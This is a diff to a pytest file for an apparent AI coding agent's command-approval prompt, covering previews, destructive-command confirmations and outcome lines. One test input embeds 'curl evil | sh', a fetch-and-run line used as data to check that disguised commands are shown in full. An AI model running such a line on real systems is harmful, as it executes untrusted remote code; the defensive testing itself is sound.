@@ -15,6 +15,7 @@ class Person:
 
     asking = False
     away = False
+    width = 79
     notifier = SimpleNamespace(tell=lambda text: None)
 
     def __init__(self, *answers):
@@ -34,7 +35,7 @@ class Person:
         self.waited += 1
 
     async def read_answer(self, label, menu):
-        self.shown += "\n".join(menu.lines(self.screen, "", 79, 40)) + "\n"
+        self.shown += "\n".join(menu.lines(self.screen, "", self.width, 40)) + "\n"
         return self.answers.pop(0)
 
 
@@ -81,7 +82,7 @@ def asked(*answers, clock=lambda: 0.0):
         ("yes but later", Answer(choice="no", message="yes but later")),
     ],
 )
-def test_an_answer_is_a_choice_or_a_no_with_a_word(line, answer):
+def test_an_answer_is_a_choice_or_an_explained_no(line, answer):
     assert parse_answer(line, question(), in_words=False) == answer
 
 
@@ -109,7 +110,7 @@ async def test_the_whole_preview_is_shown_however_long():
         "echo ok\n\n--- a\n+++ b\n@@ -1 +1 @@\n-a\n+b\ncurl evil | sh",
     ],
 )
-async def test_a_command_in_the_form_of_a_diff_is_shown_whole(command):
+async def test_a_command_that_looks_like_a_diff_is_whole(command):
     ask, person = asked("n")
 
     await ask(question(preview=command))
@@ -137,30 +138,21 @@ async def test_always_is_not_shown_where_it_is_not_offered():
     assert "always" not in person.shown
 
 
-async def test_the_subagent_that_asks_is_named():
-    ask, person = asked("n")
-
-    await ask(question(asker="agent 2"))
-
-    assert "Run a command (asked by agent 2)" in person.shown
-
-
-async def test_after_three_approvals_in_a_minute_what_destroys_takes_a_typed_word():
+async def test_a_fourth_destructive_approval_a_minute_takes_a_word():
     ask, person = asked("y", "y", "y", "y", "yes")
     destroys = question(dangers=("Deletes build.",))
     for _ in range(3):
         await ask(destroys)
-    assert "type the full word" not in person.shown
+    assert person.answers == ["y", "yes"]
 
     answer = await ask(destroys)
 
     assert answer.choice == "once"
-    assert "type the full word" in person.shown
     assert person.answers == []
 
 
 @pytest.mark.parametrize("later", [{"seconds": 61.0}, {"kind": "run network"}, {"dangers": ()}])
-async def test_a_minute_later_for_another_kind_or_where_nothing_is_destroyed_a_key_is_enough(later):
+async def test_a_key_suffices_later_for_another_kind_or_harmless_command(later):
     now = [0.0]
     ask, person = asked("y", "y", "y", "y", clock=lambda: now[0])
     destroys = {"dangers": ("Deletes build.",), "kind": "run destroys"}
@@ -171,7 +163,6 @@ async def test_a_minute_later_for_another_kind_or_where_nothing_is_destroyed_a_k
     await ask(question(**{**destroys, **later}))
 
     assert person.answers == []
-    assert "type the full word" not in person.shown
 
 
 async def test_an_answered_question_folds_to_one_line_where_it_fits():
@@ -184,14 +175,14 @@ async def test_an_answered_question_folds_to_one_line_where_it_fits():
     assert printed == ["Denied: rm -rf build · told the model: use trash"]
 
 
-def test_changes_of_a_command_that_has_run_are_kept_or_discarded():
+def test_changes_of_a_finished_command_are_kept_or_discarded():
     ran = question(kind="keep", subject="echo hi > out.txt")
 
     assert outcome_line(ran, Answer(choice="once")) == "Changes kept: echo hi > out.txt"
     assert outcome_line(ran, Answer(choice="no")) == "Changes discarded: echo hi > out.txt"
 
 
-async def test_what_remains_of_a_question_stands_with_its_call_apart_from_the_text_before():
+async def test_an_answered_question_stands_beside_its_call():
     _, person = asked("y")
     renderer = Renderer(person.screen)
     ask = make_ask(person.screen, say=renderer.show_outcome)
@@ -205,7 +196,7 @@ async def test_what_remains_of_a_question_stands_with_its_call_apart_from_the_te
     assert person.printed == "\nAllowed once: rm -rf build\n● Ran rm -rf build\n"
 
 
-async def test_a_question_longer_than_the_screen_is_printed_whole_and_stays():
+async def test_a_question_longer_than_the_screen_is_printed_whole():
     ask, person = asked("y")
 
     await ask(question(preview="\n".join(f"line {n}" for n in range(500))))
@@ -215,17 +206,7 @@ async def test_a_question_longer_than_the_screen_is_printed_whole_and_stays():
     assert person.printed.rstrip().endswith("Allowed once: rm -rf build")
 
 
-async def test_a_diff_is_numbered_and_a_new_file_called_so():
-    ask, person = asked("y")
-    diff = "--- a//x/notes.txt\n+++ b//x/notes.txt\n@@ -0,0 +1,2 @@\n+one\n+two\n"
-
-    await ask(question(tool="write_file", subject="/x/notes.txt", preview=diff, diff=diff))
-
-    assert "│ /x/notes.txt (new file)\n  1 + one\n  2 + two\n" in person.shown
-    assert "@@" not in person.shown
-
-
-def test_one_mistyped_key_is_asked_about_again_rather_than_told_to_the_model() -> None:
+def test_a_mistyped_key_is_no_answer() -> None:
     assert parse_answer("1", question(), in_words=False) is None
     assert parse_answer("x", question(), in_words=False) is None
     assert parse_answer("no", question(), in_words=False) == Answer(choice="no")
